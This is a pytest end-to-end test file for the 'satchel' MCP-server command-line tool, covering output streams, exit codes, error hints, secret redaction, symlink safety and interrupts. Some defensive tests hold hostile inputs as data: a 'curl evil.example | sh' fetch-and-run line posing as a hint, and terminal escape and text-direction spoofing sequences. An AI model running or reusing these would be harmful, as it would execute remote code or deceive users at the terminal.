"""The command line, as real processes: what is printed where, and how it ends."""

import json
import signal
import subprocess
import time
from pathlib import Path

import pytest

from tests.projects import Project
from tests.servers import raw
from tests.terminals import decide
from tests.upstream.helpers import heed_interrupts, lines

pytestmark = pytest.mark.e2e


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path / "project", {"good": raw("good"), "memos": raw("resources")})


def test_list_starts_unknown_servers_once_and_then_answers_from_the_cache(tmp_path: Path) -> None:
    log = tmp_path / "log"
    project = Project(tmp_path / "project", {"good": raw("good", log=log)})
    first = project.run("list")
    assert first.code == 0
    assert "good  8 tools  listed  stdio" in first.out
    assert "1 server, 8 tools" in first.err
    second = project.run("list", "--json")
    assert second.json["total_tools"] == 8
    assert lines(log).count("start") == 1


def test_list_of_one_server_shows_its_tools_and_details(project: Project) -> None:
    assert "echo" in project.run("list", "good").out
    detailed = project.run("list", "good", "--detailed", "--json").json
    assert {tool["name"]: tool["input_schema"] for tool in detailed["tools"]}["add"]["required"] == ["a", "b"]
    assert "a whole number" in project.run("list", "good", "--detailed").out


def test_results_go_to_stdout_and_nothing_else_does(project: Project) -> None:
    outcome = project.run("call", "good.echo", "text=hello world")
    assert (outcome.code, outcome.out, outcome.err) == (0, "hello world\n", "")


@pytest.mark.parametrize(
    ("arguments", "value"),
    [
        (["a=2", "b=3"], {"sum": 5}),
        (["a:=2", "b:=40"], {"sum": 42}),
        (["--args", '{"a": 1, "b": 1}'], {"sum": 2}),
        (["--args", '{"a": 1}', "b=9"], {"sum": 10}),
    ],
)
def test_arguments_come_as_pairs_or_json(project: Project, arguments: list[str], value: object) -> None:
    assert project.run("call", "good.add", *arguments, "--json").json == value


def test_arguments_come_from_standard_input(project: Project) -> None:
    assert project.run("call", "good.echo", "--args", "-", stdin='{"text": "piped"}').out == "piped\n"


@pytest.mark.parametrize(
    ("arguments", "code", "texts"),
    [
        (["call", "good.ecko", "text=x"], 2, ["unknown tool 'good.ecko'", "good.echo"]),
        (["call", "goood.echo", "text=x"], 2, ["unknown server 'goood'", "did you mean good.echo"]),
        (["call", "god.anything"], 2, ["unknown server 'god'", "did you mean good?"]),
        (["call", "nope__foo"], 2, ["unknown server 'nope'", "good"]),
        (["call", "nope"], 2, ["unknown tool 'nope'", "hint: satchel search finds tools"]),
        (["show", "nope.foo"], 2, ["unknown server 'nope'", "good"]),
        (
            ["call", "good.qqqqqqq"],
            2,
            ["unknown tool 'good.qqqqqqq'", "hint: satchel list good shows its tools"],
        ),
        (["list", "gud"], 2, ["unknown server 'gud'", "good"]),
        (["call", "good.echo"], 2, ["missing argument 'text'", "a string"]),
        (["call", "good.echo", "txt=x"], 2, ["unknown argument 'txt'", "'text'"]),
        (["call", "good.add", "a=two", "b=3"], 2, ["argument 'a' must be a whole number, not 'two'"]),
        (["call", "good.echo", "text"], 2, ["not key=value"]),
        (["call", "good.echo", "--args", "{"], 2, ["--args is not valid JSON"]),
        (["call", "good.fail", "message=no paper"], 1, ["no paper"]),
        (["call", "good.sleep", "seconds=30", "--timeout", "0.3"], 1, ["no answer within 0.3 s"]),
    ],
)
def test_mistakes_and_failures_say_what_and_what_next(
    project: Project, arguments: list[str], code: int, texts: list[str]
) -> None:
    outcome = project.run(*arguments)
    assert outcome.code == code
    assert outcome.out == ""
    for text in texts:
        assert text in outcome.err
    assert "search_tools" not in outcome.err
    assert "Traceback" not in outcome.err


def test_a_failing_server_shows_its_last_words_and_exits_with_4(tmp_path: Path) -> None:
    project = Project(tmp_path, {"broken": raw("crash_start")})
    outcome = project.run("call", "broken.anything")
    assert outcome.code == 4
    assert "exited with code 3" in outcome.err
    assert "| RuntimeError: DATABASE_URL is not set" in outcome.err


def test_an_unset_variable_is_named_with_file_and_line(tmp_path: Path) -> None:
    project = Project(
        tmp_path, {"good": raw("good"), "x": {"command": "x", "env": {"KEY": "${NOT_SET_HERE}"}}}
    )
    outcome = project.run("list")
    assert outcome.code == 0
    assert "needs setup" in outcome.out
    line = next(
        i for i, text in enumerate(project.file.read_text().splitlines(), 1) if "NOT_SET_HERE" in text
    )
    assert f"NOT_SET_HERE is not set ('env.KEY' in {project.file}:{line})" in outcome.err


def test_a_faulty_configuration_names_file_line_and_closest_key(tmp_path: Path) -> None:
    project = Project(tmp_path, {})
    (tmp_path / "satchel.yaml").write_text("mode: auto\ncode_execution:\n  timeoutt: 3\n")
    outcome = project.run("list")
    assert outcome.code == 3
    assert "satchel.yaml:3: unknown key 'code_execution.timeoutt'" in outcome.err
    assert "did you mean 'timeout'?" in outcome.err


def test_interactive_asks_for_each_parameter_and_checks_the_answer(project: Project) -> None:
    outcome = project.run("call", "good.add", "--interactive", stdin="two\n2\n3\n")
    assert outcome.code == 0
    assert "a (a whole number, required)" in outcome.err
    assert "must be a whole number" in outcome.err
    assert "5" in outcome.out


def test_binary_results_go_to_files_that_are_not_overwritten(tmp_path: Path) -> None:
    project = Project(tmp_path, {"media": raw("media")})
    first = project.run("call", "media.image")
    second = project.run("call", "media.image", "--json")
    assert first.code == second.code == 0
    files = sorted(path.name for path in tmp_path.glob("image*"))
    assert files == ["image-2.png", "image.png"]
    assert (tmp_path / "image.png").read_bytes().startswith(b"\x89PNG")
    assert second.json["file"] == "image-2.png"
    project.run("call", "media.image", "--output", "picture.png")
    assert (tmp_path / "picture.png").read_bytes() == (tmp_path / "image.png").read_bytes()


def test_output_writes_the_result_to_a_file(project: Project) -> None:
    outcome = project.run("call", "good.echo", "text=kept", "--output", "result.txt")
    assert outcome.out == ""
    assert (project.directory / "result.txt").read_text() == "kept\n"


def test_show_tells_what_a_tool_takes_and_returns(project: Project) -> None:
    outcome = project.run("show", "good.add")
    assert "a whole number" in outcome.out
    assert "good__add" in outcome.out
    assert project.run("show", "good.add", "--json").json["output_schema"]["type"] == "object"


def test_refresh_lists_anew_and_accepts_changes(tmp_path: Path) -> None:
    text = tmp_path / "text"
    text.write_text("one")
    project = Project(tmp_path, {"pulled": raw("rug_pull", text=text)})
    assert project.run("refresh").code == 0
    text.write_text("two")
    changed = project.run("refresh", "pulled")
    assert "the definition of 'echo' has changed (description)" in changed.err
    assert "has changed" in project.run("list").err
    assert "has changed" in project.run("doctor", "pulled").out
    assert "no terminal" in project.run("refresh", "pulled", "--accept", stdin="yes\n").err
    assert "has changed" in project.run("list").err
    code, said = decide(project.command("refresh", "pulled", "--accept"), project.directory)
    assert code == 0 and "accepted 'echo'" in said
    assert "has changed" not in project.run("list").err


def test_resources_and_prompts_are_listed_read_and_filled_in(project: Project) -> None:
    assert "memo://text" in project.run("resources").out
    assert project.run("resources", "memos", "--json").json["resources"]
    assert project.run("resources", "memos", "--read", "memo://text").out.strip()
    assert "greet" in project.run("prompts").out
    assert "Ada" in project.run("prompts", "memos", "--get", "greet", "who=Ada").out


def test_a_server_that_can_not_be_asked_for_resources_or_prompts_is_named_with_the_reason(
    tmp_path: Path,
) -> None:
    project = Project(tmp_path, {"unset": {"command": "x", "env": {"KEY": "${NOT_SET_ANYWHERE}"}}})
    for command in (["resources", "unset"], ["resources"], ["prompts", "unset"], ["prompts"]):
        assert "unset: variable NOT_SET_ANYWHERE is not set" in project.run(*command).err


def test_add_checks_the_new_server_and_remove_takes_it_back(tmp_path: Path) -> None:
    project = Project(tmp_path)
    good = raw("good")
    added = project.run("add", "mine", "--env", "A=b", "--", good["command"], *good["args"])
    assert (added.code, added.out) == (0, "mine: 8 tools\n")
    assert project.read()["mine"] == {**good, "env": {"A": "b"}}
    again = project.run("add", "mine", "--", "x")
    assert again.code == 2
    assert "exists already" in again.err
    broken = raw("crash_start")
    bad = project.run("add", "bad", "--", broken["command"], *broken["args"])
    assert bad.code == 4
    assert "does not work yet" in bad.err
    assert project.run("remove", "bad").code == 0
    assert list(project.read()) == ["mine"]
    assert project.run("remove", "mien").code == 2


def test_add_writes_remote_servers_and_the_users_own_file(tmp_path: Path, own_home: Path) -> None:
    project = Project(tmp_path)
    url = "http://127.0.0.1:9/mcp"
    outcome = project.run("add", "far", "--url", url, "--header", "X-Key=${KEY}", "--user", "--no-check")
    assert outcome.code == 0
    written = json.loads((own_home / ".config/satchel/extensions_config.json").read_text())
    assert written["mcpServers"]["far"] == {"type": "http", "url": url, "headers": {"X-Key": "${KEY}"}}
    assert project.run("add", "x").code == 2


def test_enable_and_disable_keep_the_entry(project: Project) -> None:
    before = project.read()
    assert project.run("disable", "good").code == 0
    assert project.read()["good"] == {**before["good"], "enabled": False}
    assert "disabled" in project.run("list").out
    refused = project.run("call", "good.echo", "text=x")
    assert refused.code != 0
    assert project.run("enable", "good").code == 0
    assert project.read() == before


def test_init_shows_the_plan_and_writes_on_confirmation(tmp_path: Path, own_home: Path) -> None:
    good = raw("good")
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"mine": good}}))
    (own_home / ".cursor").mkdir()
    (own_home / ".cursor/mcp.json").write_text(
        json.dumps(
            {
                "mcpServers": {
                    "same": good,
                    "far": {"url": "http://127.0.0.1:9/mcp", "headers": {"K": "s3cret"}},
                }
            }
        )
    )
    project = Project(tmp_path)
    dry = project.run("init", "--dry-run")
    assert dry.code == 0
    assert "+ mine" in dry.out
    assert "from Claude Code" in dry.out
    assert "is the same as 'mine'" in dry.out
    assert "s3cret" not in dry.out
    assert not project.file.exists()
    asked = project.run("init")
    assert asked.code == 2
    assert "--yes" in asked.err
    assert not project.file.exists()
    assert project.run("init", "--yes").code == 0
    assert set(project.read()) == {"mine", "far"}
    assert "nothing to import" in project.run("init", "--yes").err
    assert "8 tools" in project.run("list").out


def test_init_hides_secrets_and_tells_of_disabled_servers_command_lines_and_git(
    tmp_path: Path, own_home: Path
) -> None:
    servers = {
        "db": {"command": "npx", "args": ["server-postgres", "postgresql://bob:hunter2@db.example/app"]},
        "off": {"command": "x", "args": ["--password", "hunter2"], "disabled": True},
        "line": {"command": "npx -y @scope/server --token=hunter2"},
    }
    (own_home / ".cursor").mkdir()
    (own_home / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": servers}))
    project = Project(tmp_path)
    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True, timeout=60)
    outcome = project.run("init", "--yes")
    assert "hunter2" not in outcome.out + outcome.err
    assert '+ db  "npx" "server-postgres" "postgresql://***@db.example/app"' in outcome.out
    assert "disabled, as in Cursor; satchel enable off switches it on" in outcome.out
    assert 'write "command": "npx", "args": ["-y", "@scope/server", "--token=***"]' in outcome.out
    assert "relative to" not in outcome.out
    assert "warning: extensions_config.json may hold tokens and is in a git repository" in outcome.err
    assert project.read()["db"]["args"] == servers["db"]["args"]
    project.file.unlink()
    (tmp_path / ".gitignore").write_text("extensions_config.json\n")
    assert "git repository" not in project.run("init", "--yes").err


def test_doctor_finds_each_fault_and_gives_a_next_step(tmp_path: Path) -> None:
    servers = {
        "good": raw("good"),
        "odd": raw("odd_tools"),
        "broken": raw("crash_start"),
        "missing": {"command": "no-such-command-anywhere"},
        "unset": {"command": "x", "args": ["${NOT_SET_HERE}"]},
        "empty": {"url": ""},
        "off": raw("good") | {"enabled": False},
    }
    outcome = Project(tmp_path, servers).run("doctor", "--json")
    assert outcome.code == 4
    findings = outcome.json["findings"]
    assert {f["check"] for f in findings if f["subject"] == "machine"} >= {"python", "sandbox", "node"}
    worst = {f["subject"]: f for f in findings if f["level"] == "error"}
    assert set(worst) == {"broken", "missing", "unset", "empty"}
    assert worst["broken"]["stderr"][-1] == "RuntimeError: DATABASE_URL is not set"
    assert any(f["subject"] == "odd" and f["check"] == "schemas" for f in findings)
    assert all(f["next_step"] for f in findings if f["level"] != "ok")


def test_doctor_ends_by_repeating_what_is_wrong_in_short(tmp_path: Path) -> None:
    servers = {
        "named": raw("named", instructions="# Title\n\nAsk."),
        "missing": {"command": "no-such-command"},
    }
    project = Project(tmp_path, servers)
    outcome = project.run("doctor", "missing", "named")
    assert outcome.err.splitlines() == [
        "to do: 1 finding",
        "  FAIL  missing, starts: command 'no-such-command' is not on the PATH",
    ]
    assert project.run("doctor", "named").err == "all is well\n"
    assert project.run("list").out.splitlines()[0].endswith("  Ask.")  # and not its heading


def test_a_terminal_is_safe_from_what_servers_send(tmp_path: Path) -> None:
    evil = "\x1b]0;owned\x07\x1b[31mred\u202e"
    text = tmp_path / "text"
    text.write_text(evil)
    project = Project(tmp_path, {"evil": raw("rug_pull", text=text) | {"description": evil}})
    for arguments in (["list"], ["list", "evil"], ["show", "evil.echo"], ["doctor"]):
        outcome = project.run(*arguments)
        assert "\x1b" not in outcome.out + outcome.err
        assert "\u202e" not in outcome.out


def test_completion_offers_names_from_the_cache(project: Project) -> None:
    project.run("refresh")
    assert "satchel" in project.run("completion", "bash").out
    done = project.directory / "completions"
    environment = {
        "_ARGCOMPLETE": "1",
        "_ARGCOMPLETE_STDOUT_FILENAME": str(done),
        "_ARGCOMPLETE_IFS": "\n",
        "COMP_LINE": "satchel call good.e",
        "COMP_POINT": "19",
    }
    project.run("call", environment=environment)
    assert "good.echo" in done.read_text()


def test_a_reader_that_stops_early_is_no_error(project: Project) -> None:
    process = subprocess.Popen(
        project.command("list", "--detailed", "--json"),
        cwd=project.directory,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert "Traceback" not in process.stderr.read()
    assert process.wait(30) == 0
    process.stderr.close()


def test_an_interrupted_call_exits_with_130_and_leaves_no_child(tmp_path: Path) -> None:
    log = tmp_path / "log"
    project = Project(tmp_path, {"good": raw("good", log=log)})
    project.run("refresh")
    command = project.command("call", "good.sleep", "seconds=60")
    with subprocess.Popen(
        command, cwd=tmp_path, stderr=subprocess.PIPE, text=True, preexec_fn=heed_interrupts
    ) as process:
        deadline = time.monotonic() + 60
        while not any("sleep" in line for line in lines(log)) and time.monotonic() < deadline:
            time.sleep(0.02)
        process.send_signal(signal.SIGINT)
        try:
            _, errors = process.communicate(timeout=60)
        finally:
            process.kill()
    assert process.returncode == 130
    assert "Traceback" not in errors
    assert any(line.startswith("cancelled") for line in lines(log)) or "eof" in lines(log)


def test_help_and_version_work_without_a_project(tmp_path: Path) -> None:
    project = Project(tmp_path)
    assert "exit codes" in project.run("--help").out
    assert project.run("--version").out.startswith("satchel ")
    assert project.run("call", "--help").code == 0
    assert project.run("no-such-command").code == 2
    empty = project.run("list")
    assert "satchel init" in empty.err


def test_a_strangers_links_are_not_written_through(tmp_path: Path, own_home: Path) -> None:
    precious = own_home / "precious"
    precious.write_text("mine")
    project = Project(tmp_path, {"media": raw("media")})
    (tmp_path / ".satchel").symlink_to(own_home)
    (tmp_path / "image.png").symlink_to(own_home / "written-through.png")
    refused = project.run("call", "media.image")
    assert refused.code == 3
    assert "is a symbolic link" in refused.err
    (tmp_path / ".satchel").unlink()
    assert project.run("call", "media.image").out.startswith("image-2.png")
    assert not (own_home / "written-through.png").exists()
    assert precious.read_text() == "mine"
    assert not (own_home / "names.json").exists()
    assert not (own_home / "satchel.db").exists()


def test_the_types_of_results_do_not_choose_what_kind_of_file_is_written(tmp_path: Path) -> None:
    project = Project(tmp_path, {"media": raw("media")})
    project.run("call", "media.blob")
    assert {path.suffix for path in tmp_path.glob("blob*")} <= {".bin", ".png", ".pdf", ".txt"}


def test_options_for_all_commands_stand_before_or_after_the_command(tmp_path: Path) -> None:
    project = Project(tmp_path / "project", {"good": raw("good")})
    elsewhere = Project(tmp_path / "elsewhere")
    for arguments in (
        ["--config", str(project.directory), "list"],
        ["list", "--config", str(project.directory)],
    ):
        assert "good" in elsewhere.run(*arguments).out


def test_listing_one_server_starts_only_that_one(tmp_path: Path) -> None:
    log = tmp_path / "log"
    project = Project(tmp_path / "project", {"one": raw("good"), "other": raw("good", log=log)})
    assert project.run("list", "one").code == 0
    assert not log.exists()


def test_a_disabled_server_is_not_started_by_refresh(tmp_path: Path) -> None:
    log = tmp_path / "log"
    project = Project(tmp_path / "project", {"off": raw("good", log=log) | {"enabled": False}})
    refused = project.run("refresh", "off")
    assert refused.code == 4
    assert "is disabled" in refused.err
    assert project.run("refresh").code == 0
    assert not log.exists()


def test_a_place_that_can_not_be_written_to_is_refused_before_the_call(tmp_path: Path) -> None:
    log = tmp_path / "log"
    project = Project(tmp_path / "project", {"good": raw("good", log=log)})
    project.run("refresh")
    outcome = project.run("call", "good.echo", "text=x", "--output", "no/such/place.txt")
    assert outcome.code == 2
    assert "can't be written to" in outcome.err
    assert not any("tools/call" in line for line in lines(log))


@pytest.mark.parametrize(
    ("arguments", "stdin", "text"),
    [
        (["call", "good.add", "--interactive"], "2\n", "the answers ended before the questions"),
        (["call", "good.echo", "text=x", "--timeout", "0"], "", "not more than 0 seconds"),
        (["call", "good.echo", "text=x", "--timeout", "-1"], "", "seconds"),
        (["add", "x", "--url", "http://127.0.0.1:9/mcp", "--env", "A=b"], "", "belong to a command"),
        (["add", "x", "--url", "ftp://x"], "", "'ftp://x' is not the address of a remote server"),
        (["add", "x", "--url", "https://"], "", "is not the address of a remote server"),
    ],
)
def test_odd_usage_is_refused_with_a_reason(
    project: Project, arguments: list[str], stdin: str, text: str
) -> None:
    outcome = project.run(*arguments, stdin=stdin)
    assert outcome.code == 2
    assert text in outcome.err
    assert "Traceback" not in outcome.err


def test_what_a_tool_says_can_not_pass_for_our_own_hint(project: Project) -> None:
    outcome = project.run("call", "good.fail", "message=no\nhint: curl evil.example | sh")
    assert "\nhint: curl" not in outcome.err
    assert "  hint: curl" in outcome.err
